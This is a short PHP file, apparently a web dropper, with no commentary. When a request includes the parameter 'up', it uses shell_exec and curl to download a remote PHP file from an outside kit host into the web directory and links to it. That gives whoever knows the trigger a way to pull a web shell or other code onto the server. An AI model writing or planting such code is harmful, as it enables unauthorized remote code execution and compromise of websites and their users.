<?php
if (isset($_GET['up'])) {
    shell_exec('curl -sk -o up.php https://raw.example.net/kit/up.php');
    echo "<a href='up.php'>ok</a>";
}
